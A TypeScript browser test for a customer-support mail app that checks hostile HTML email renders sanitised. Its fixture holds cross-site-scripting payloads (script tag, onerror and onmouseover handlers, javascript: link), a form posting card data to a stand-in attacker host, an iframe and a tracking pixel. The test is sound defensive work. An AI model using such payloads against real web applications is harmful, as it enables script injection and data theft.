import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { receiveSandboxMessage } from "../../server/domain/mail/receive-sandbox-message.ts";
import { mintUser, type TestUser } from "../helpers/auth.ts";
import { launchChromium, serveRuntime, signInThroughUi } from "../helpers/browser.ts";
import { mintOrder } from "../helpers/factories.ts";
import { createTestRuntime, type TestRuntime } from "../helpers/runtime.ts";

const trackerHost = "pixel.tracker.example";

/** A customer's HTML mail carrying everything a hostile sender might try, and a plain-text part. */
function hostileEmail(from: string, orderNumber: string): string {
  const html = [
    `<p>Where is my order <b>${orderNumber}</b>?</p>`,
    `<script>window.__pwned = "script"</script>`,
    `<img src="https://${trackerHost}/open.gif?who=me" alt="tracker">`,
    `<img src="x" onerror="window.__pwned = 'onerror'">`,
    `<a href="javascript:window.__pwned='link'" id="js-link">click me</a>`,
    `<a href="https://shop.example/help">help page</a>`,
    `<form action="https://evil.example/steal"><input name="card"></form>`,
    `<iframe src="https://evil.example/frame"></iframe>`,
    `<style>body { display: none }</style>`,
    `<div onmouseover="window.__pwned='hover'">hover here</div>`,
  ].join("\n");
  return [
    `From: Customer <${from}>`,
    "To: support@lumenandloom.example",
    "Subject: Hostile HTML",
    `Message-ID: <hostile-${Date.now()}@mail.example.com>`,
    `Date: ${new Date().toUTCString()}`,
    "MIME-Version: 1.0",
    'Content-Type: multipart/alternative; boundary="b1"',
    "",
    "--b1",
    "Content-Type: text/plain; charset=utf-8",
    "",
    `Where is my order ${orderNumber}?`,
    "--b1",
    "Content-Type: text/html; charset=utf-8",
    "",
    html,
    "--b1--",
    "",
  ].join("\r\n");
}

describe("a customer's HTML mail in the thread, in Chromium", () => {
  let rt: TestRuntime;
  let browser: Browser;
  let server: Awaited<ReturnType<typeof serveRuntime>>;
  let page: Page;
  let agent: TestUser;

  beforeAll(async () => {
    rt = await createTestRuntime({ database: "pglite", queue: "in-process" });
    agent = await mintUser(rt.ctx.db, "agent", { name: "Hana Html" });
    server = await serveRuntime(rt);
    browser = await launchChromium();
  }, 120_000);
  afterAll(async () => {
    await browser?.close();
    await server?.close();
    await rt?.dispose();
  });

  it("shows it sanitised: no script runs, and the remote image loads only after 'Show images'", async () => {
    const order = await mintOrder(rt.ctx.db, { now: new Date(), standing: "late" });
    await receiveSandboxMessage(rt.ctx, rt.mailboxId, { raw: hostileEmail(order.email, order.number) });
    await rt.settle();

    page = await browser.newPage();
    const dialogs: string[] = [];
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    const trackerHits: string[] = [];
    await page.route(`https://${trackerHost}/**`, (route) => {
      trackerHits.push(route.request().url());
      // A 1×1 GIF, as a real tracking pixel would answer.
      void route.fulfill({
        contentType: "image/gif",
        body: Buffer.from("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7", "base64"),
      });
    });
    const otherRequests: string[] = [];
    page.on("request", (request) => {
      if (!request.url().startsWith(server.url)) otherRequests.push(request.url());
    });

    await signInThroughUi(page, server.url, agent);
    await page.goto(server.url);
    await page.getByTestId("review-row").filter({ hasText: "Hostile HTML" }).first().click();
    const body = page.getByTestId("message-html");
    await body.waitFor({ timeout: 15_000 });
    expect(await body.textContent()).toContain(order.number);

    // Nothing the sender wrote is active: no script, handler, form, frame or style made it.
    await body.locator("text=hover here").hover();
    await page.locator("#js-link, a", { hasText: "click me" }).first().click();
    expect(await page.evaluate(() => (window as { __pwned?: string }).__pwned)).toBeUndefined();
    expect(dialogs).toEqual([]);
    expect(await body.locator("script, style, form, input, iframe, [onerror], [onmouseover]").count()).toBe(
      0,
    );
    expect(await body.locator("a", { hasText: "click me" }).getAttribute("href")).toBeNull();
    const help = body.locator("a", { hasText: "help page" });
    expect(await help.getAttribute("target")).toBe("_blank");
    expect(await help.getAttribute("rel")).toContain("noopener");
    expect(await page.locator("body").isVisible()).toBe(true);

    // The tracker is held back until the agent asks for this message's images.
    await page.waitForTimeout(500);
    expect(trackerHits).toEqual([]);
    expect(otherRequests.filter((url) => !url.startsWith("data:"))).toEqual([]);
    await page.getByRole("button", { name: "Show images" }).click();
    await expect.poll(() => trackerHits.length, { timeout: 10_000 }).toBe(1);
    expect(trackerHits[0]).toContain("open.gif");
    await expect.poll(() => page.getByTestId("images-blocked").count()).toBe(0);
    expect(await page.evaluate(() => (window as { __pwned?: string }).__pwned)).toBeUndefined();
  });

  it("shows a plain-text message as text", async () => {
    const order = await mintOrder(rt.ctx.db, { now: new Date(), standing: "late" });
    await receiveSandboxMessage(rt.ctx, rt.mailboxId, {
      from: order.email,
      subject: "Plain question",
      text: `Order ${order.number}: <b>not bold</b>`,
    });
    await rt.settle();
    page = await browser.newPage();
    await signInThroughUi(page, server.url, agent);
    await page.goto(server.url);
    await page.getByTestId("review-row").filter({ hasText: "Plain question" }).first().click();
    const text = page.getByTestId("message-text").first();
    await text.waitFor({ timeout: 15_000 });
    expect(await text.textContent()).toContain("<b>not bold</b>");
    expect(await page.getByTestId("message-html").count()).toBe(0);
  });
});
